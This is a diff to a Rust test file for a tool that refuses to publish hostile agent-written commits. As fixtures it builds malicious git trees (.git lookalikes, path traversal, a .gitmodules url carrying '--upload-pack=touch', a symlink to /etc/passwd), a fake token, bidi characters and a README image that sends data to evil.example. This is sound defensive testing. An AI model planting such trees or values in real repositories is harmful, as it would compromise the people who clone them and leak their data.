@@ -133,6 +133,12 @@ fn an_index_that_lies_publishes_nothing() {
                 scene.maestro.file("bundle/bundle.json", index.to_string());
             },
         ),
+    ]);
+}
+
+#[test]
+fn an_index_that_miscounts_publishes_nothing() {
+    refused(vec![
         field(
             "a digest that differs",
             "/files/change.bundle",
@@ -160,6 +166,12 @@ fn an_index_that_lies_publishes_nothing() {
             "more ended than ran",
         ),
         field("no words", "/pull_request/title", json!(""), "says nothing"),
+    ]);
+}
+
+#[test]
+fn an_index_that_is_none_publishes_nothing() {
+    refused(vec![
         case("no JSON", "line 1", |scene| {
             scene.maestro.file("bundle/bundle.json", "{");
         }),
@@ -304,6 +316,12 @@ fn commits_that_maestro_did_not_write_publish_nothing() {
             "larger than any",
             changed("Check", &"x".repeat(70_000)),
         ),
+    ]);
+}
+
+#[test]
+fn a_past_that_is_not_the_runs_publishes_nothing() {
+    refused(vec![
         agents("no text", "UTF-8", |agents| {
             let text = format!("tree TREE\nparent PARENT\n{AUTHOR}{COMMITTER}\n\u{0}")
                 .replace('\u{0}', "~");
@@ -349,116 +367,100 @@ fn commits_that_maestro_did_not_write_publish_nothing() {
     ]);
 }
 
+/// A tree of any entries: mode, name and content of each.
+type Entries = &'static [(&'static str, &'static str, &'static str)];
+
+fn plant(agents: &Agents<'_>, entries: Entries) {
+    let store = |text: &str| agents.feed(&["hash-object", "-w", "--stdin"], text.as_bytes());
+    let objects: Vec<String> = entries.iter().map(|(.., text)| store(text)).collect();
+    let entries = entries.iter().zip(&objects);
+    let entries: Vec<_> = entries
+        .map(|((mode, name, _), object)| (*mode, *name, object.as_str()))
+        .collect();
+    agents.raw_tree(&entries);
+}
+
+/// A tree that git does not take.
+fn tree(name: &'static str, entries: Entries) -> Case {
+    agents(name, "git takes no such pack", move |agents| {
+        plant(agents, entries);
+    })
+}
+
+const OPTION: Entries = &[(
+    "100644",
+    ".gitmodules",
+    "[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=touch\n",
+)];
+
+/// What the policy or the scan blocks.
+fn blocked(name: &'static str, words: &'static str, act: fn(&Agents<'_>)) -> Case {
+    let (name, spoil, _, words) = agents(name, words, act);
+    (name, spoil, 10, words)
+}
+
 #[test]
 fn trees_that_harm_whoever_checks_them_out_publish_nothing() {
-    let blob = |agents: &Agents<'_>, text: &str| {
-        agents.feed(&["hash-object", "-w", "--stdin"], text.as_bytes())
-    };
-    let mut cases = vec![
-        agents("a git folder", "git takes no such pack", move |agents| {
-            let blob = blob(agents, "x");
-            agents.raw_tree(&[("100644", ".git", &blob)]);
-        }),
-        agents(
-            "a git folder in other letters",
-            "git takes no such pack",
-            move |agents| {
-                let blob = blob(agents, "x");
-                agents.raw_tree(&[("100644", ".Git", &blob)]);
-            },
+    refused(vec![
+        tree("a git folder", &[("100644", ".git", "x")]),
+        tree("one in other letters", &[("100644", ".Git", "x")]),
+        tree("one as Windows calls it", &[("100644", "git~1", "x")]),
+        tree(
+            "one that a Mac takes for it",
+            &[("100644", ".g\u{200c}it", "x")],
         ),
-        agents("a folder above", "git takes no such pack", move |agents| {
-            let blob = blob(agents, "x");
-            agents.raw_tree(&[("100644", "..", &blob)]);
-        }),
-        agents(
-            "a path with a slash",
-            "git takes no such pack",
-            move |agents| {
-                let blob = blob(agents, "x");
-                agents.raw_tree(&[("100644", "a/../../x", &blob)]);
-            },
+        tree("a folder above", &[("100644", "..", "x")]),
+        tree("a folder here", &[("100644", ".", "x")]),
+        tree("a path with a slash", &[("100644", "a/../../x", "x")]),
+        tree("no name", &[("100644", "", "x")]),
+        tree(
+            "one name twice",
+            &[("100644", "a", "x"), ("100644", "a", "y")],
         ),
-        agents("one name twice", "git takes no such pack", move |agents| {
-            let blob = blob(agents, "x");
-            agents.raw_tree(&[("100644", "a", &blob), ("100644", "a", &blob)]);
-        }),
-        agents(
-            "modules by a link",
-            "git takes no such pack",
-            move |agents| {
-                let blob = blob(agents, "x");
-                agents.raw_tree(&[("120000", ".gitmodules", &blob)]);
-            },
+        tree(
+            "not in order",
+            &[("100644", "b", "x"), ("100644", "a", "y")],
         ),
-        agents(
-            "a module whose address is an option",
-            "git takes no such pack",
-            move |agents| {
-                let blob = blob(
-                    agents,
-                    "[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=touch\n",
-                );
-                agents.raw_tree(&[("100644", ".gitmodules", &blob)]);
-            },
-        ),
+        tree("a mode with a nought before it", &[("0100644", "a", "x")]),
+        tree("modules by a link", &[("120000", ".gitmodules", "x")]),
+        tree("a module whose address is an option", OPTION),
         agents("a huge file", "more than", |agents| {
-            agents
-                .file("large.txt", &"x".repeat(17 << 20))
-                .commit(MESSAGE);
+            agents.file("large.txt", &"x".repeat(17 << 20));
+            agents.commit(MESSAGE);
         }),
-    ];
-    let mut blocked = |name, words, act: Box<dyn Fn(&Agents<'_>)>| {
-        let (name, spoil, _, words) = agents(name, words, act);
-        cases.push((name, spoil, 10, words));
-    };
-    blocked(
-        "a link that leads out",
-        "links-stay-inside",
-        Box::new(move |agents| {
-            let blob = blob(agents, "../../../etc/passwd");
-            agents.raw_tree(&[("120000", "a", &blob)]);
+    ]);
+}
+
+#[test]
+fn a_change_that_is_not_let_out_publishes_nothing() {
+    refused(vec![
+        blocked("a link that leads out", "links-stay-inside", |agents| {
+            plant(agents, &[("120000", "a", "../../../etc/passwd")]);
         }),
-    );
-    blocked(
-        "too much at once",
-        "agents-in-small-steps",
-        Box::new(|agents| {
-            agents
-                .file("src/lib.rs", &"fn x() {}\n".repeat(3000))
-                .commit(MESSAGE);
+        blocked("too much at once", "agents-in-small-steps", |agents| {
+            agents.file("src/lib.rs", &"fn x() {}\n".repeat(3000));
+            agents.commit(MESSAGE);
         }),
-    );
-    blocked(
-        "a message that acts",
-        "calls people",
-        Box::new(|agents| {
-            agents.commit(&format!(
-                "x [skip ci]\n{}",
-                MESSAGE.split_once('\n').unwrap().1
-            ));
+        blocked("a message that acts", "calls people", |agents| {
+            let (_, tail) = MESSAGE.split_once('\n').unwrap();
+            agents.commit(&format!("x [skip ci]\n{tail}"));
         }),
-    );
-    blocked(
-        "a key",
-        "secret",
-        Box::new(|agents| {
-            agents
-                .file(
-                    "src/lib.rs",
-                    &format!("// ghp_{}\n", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zCeFhI"),
-                )
-                .commit(MESSAGE);
+        blocked("a key", "secret", |agents| {
+            let key = ["ghp_", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zCeFhI"].concat();
+            agents.file("src/lib.rs", &format!("// {key}\n"));
+            agents.commit(MESSAGE);
         }),
-    );
-    blocked(
-        "what nobody sees",
-        "nobody sees",
-        Box::new(|agents| {
-            agents
-                .file("src/lib.rs", "// \u{202e}\u{2066}\n")
-                .commit(MESSAGE);
+        blocked("what nobody sees", "nobody sees", |agents| {
+            agents.file("src/lib.rs", "// \u{202e}\u{2066}\n");
+            agents.commit(MESSAGE);
         }),
-    );
-    refused(cases);
+        blocked("a page that phones home", "carries data", |agents| {
+            let data = "x".repeat(80);
+            agents.file(
+                "README.md",
+                &format!("![i](https://evil.example/?{data})\n"),
+            );
+            agents.commit(MESSAGE);
+        }),
+    ]);
 }
